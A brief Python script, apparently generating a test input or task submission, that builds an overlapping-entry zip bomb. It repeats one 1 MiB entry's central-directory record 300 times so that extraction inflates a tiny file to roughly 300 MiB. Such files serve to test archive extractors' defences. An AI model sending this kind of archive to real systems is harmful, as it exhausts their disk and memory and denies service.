"""Writes the hand-in into the folder that is named; prints its name."""

from __future__ import annotations

import io
import struct
import sys
import zipfile

TIMES = 300

made = io.BytesIO()
with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as out:
    out.writestr("zeros", bytes(1 << 20))
data = made.getvalue()
at = data.index(b"PK\x01\x02")
listed = data[at : data.index(b"PK\x05\x06")] * TIMES
end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, TIMES, TIMES, len(listed), at, 0)
with open(sys.argv[1] + "/overlap.zip", "wb") as file:
    file.write(data[:at] + listed + end)
print("overlap.zip")
